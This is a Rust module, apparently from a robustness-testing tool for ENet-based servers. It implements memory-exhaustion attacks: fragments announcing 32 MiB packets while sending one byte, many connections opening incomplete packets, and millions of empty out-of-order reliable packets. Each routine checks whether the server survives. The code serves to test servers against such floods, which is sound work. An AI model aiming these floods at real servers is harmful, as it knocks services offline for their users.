//! Attacks on the memory of a server by a peer.

use std::io;
use std::time::Duration;

use bytes::Bytes;
use enet_sim::wire::{Body, Command, Fragment};

use super::context::{Context, Outcome};
use crate::pace::Pace;
use crate::puppet::Puppet;
use crate::sockets::Sent;

/// The most that a receiver takes ahead of what it waits for.
const AHEAD: usize = 28_000;

/// What a server may still be busy with when an attack ends.
const PATIENCE: Duration = Duration::from_secs(5);

/// The payload of an honest sender's fragments.
const FRAGMENT: u32 = 1364;

pub(super) fn announcements(context: &Context<'_>) -> io::Result<Outcome> {
    const COUNT: usize = 25_500;
    const PER_DATAGRAM: usize = 50;
    let announce = |index: usize| {
        // A server that looks at how honest senders cut packets refuses the first form and with it the rest of the datagram, so
        // each datagram has one of them.
        let fragment = match index / PER_DATAGRAM % 2 {
            0 => last_of_a_large_packet(),
            _ => first_of_a_large_packet(),
        };
        let start = 1 + index as u16;
        Command::unreliable(0, 0, Body::UnreliableFragment(Fragment { start, ..fragment }))
    };
    let count = context.scale.count(COUNT);
    let (commands, sent) = send_all(context, 1, (0..count).map(announce), PER_DATAGRAM)?;
    Ok(Outcome::new(format!("{commands} of 32 MiB announced in {sent}")).memory_kept(context))
}

/// One byte where an honest sender has more.
fn first_of_a_large_packet() -> Fragment {
    const TOTAL: u32 = 32 * 1024 * 1024;
    Fragment {
        start: 0,
        count: TOTAL.div_ceil(FRAGMENT),
        number: 0,
        total: TOTAL,
        offset: 0,
        data: Bytes::from_static(b"x"),
    }
}

/// One byte that is left when the rest has been cut as honest senders do.
fn last_of_a_large_packet() -> Fragment {
    const LAST: u32 = 32 * 1024 * 1024 / FRAGMENT;
    Fragment {
        start: 0,
        count: LAST + 1,
        number: LAST,
        total: LAST * FRAGMENT + 1,
        offset: LAST * FRAGMENT,
        data: Bytes::from_static(b"x"),
    }
}

/// As many connections as begin as many packets as one may, and send the least that there is of each.
pub(super) fn first_fragments(context: &Context<'_>) -> io::Result<Outcome> {
    const CONNECTIONS: usize = 50;
    const PACKETS: u16 = 2048;
    const LENGTH: u32 = 4096;
    const PER_DATAGRAM: usize = 32;
    let count = context.scale.count(CONNECTIONS);
    let mut puppets: Vec<Puppet> = (0..count as u32)
        .map(|number| Puppet::join(context.target, number, 2))
        .collect::<io::Result<_>>()?;
    let fragment = |index: u16| {
        let fragment = Fragment {
            start: 1 + index,
            count: LENGTH,
            number: 0,
            total: LENGTH,
            offset: 0,
            data: Bytes::from_static(b"x"),
        };
        Command::unreliable(0, 0, Body::UnreliableFragment(fragment))
    };
    let fragments: Vec<Command> = (0..PACKETS).map(fragment).collect();
    let mut sent = Sent::default();
    let mut pace = Pace::new(400.0, Duration::from_secs(10));
    for part in fragments.chunks(PER_DATAGRAM) {
        let Some(_) = pace.turns() else { break };
        for puppet in &mut puppets {
            let datagram = puppet.datagram(puppet.peer_id, puppet.session, part.to_vec());
            sent.send(puppet.socket(), &datagram);
            puppet.listen(true);
        }
    }
    let there = puppets.iter_mut().map(|puppet| puppet.is_alive(PATIENCE));
    let there = there.filter(|&alive| alive).count();
    puppets.iter_mut().for_each(Puppet::leave);
    let text = format!("{count} connections, {there} of them there to the end: {sent}");
    Ok(Outcome::new(text).memory_kept(context))
}

pub(super) fn empty_ahead(context: &Context<'_>) -> io::Result<Outcome> {
    ahead(context, |number| number)
}

pub(super) fn descending(context: &Context<'_>) -> io::Result<Outcome> {
    ahead(context, |number| AHEAD - 1 - number)
}

/// 6 million empty packets ahead of the first one of each channel, in an order.
fn ahead(context: &Context<'_>, order: impl Fn(usize) -> usize) -> io::Result<Outcome> {
    let count = context.scale.count(6_000_000);
    let channels = count.div_ceil(AHEAD).min(255);
    let packets = (0..count).map(|index| {
        let (channel, number) = (index / AHEAD, order(index % AHEAD));
        Command::reliable(channel as u8, number as u16 + 2, Body::Reliable(Bytes::new()))
    });
    let (commands, sent) = send_all(context, channels as u32, packets, 220)?;
    Ok(Outcome::new(format!("{commands} empty packets in {sent}")).memory_kept(context))
}

/// Joins, sends commands evenly over the time of the attack, and leaves when the server has worked through them. Returns how
/// many of them were sent, and in what.
fn send_all(
    context: &Context<'_>,
    channels: u32,
    commands: impl Iterator<Item = Command>,
    per_datagram: usize,
) -> io::Result<(usize, Sent)> {
    let mut puppet = Puppet::join(context.target, 0, channels)?;
    let mut commands = commands.peekable();
    // Some faster than the time there is, which ends it in any case.
    let mut pace = Pace::new(4000.0, context.scale.seconds(10).max(Duration::from_secs(1)));
    let (mut count, mut sent) = (0, Sent::default());
    while commands.peek().is_some()
        && let Some(turns) = pace.turns()
    {
        for _ in 0..turns {
            let datagram: Vec<Command> = commands.by_ref().take(per_datagram).collect();
            if datagram.is_empty() {
                break;
            }
            let length = datagram.len();
            let datagram = puppet.datagram(puppet.peer_id, puppet.session, datagram);
            if sent.send(puppet.socket(), &datagram) {
                count += length;
            }
        }
        puppet.listen(true);
    }
    puppet.is_alive(PATIENCE);
    puppet.leave();
    Ok((count, sent))
}
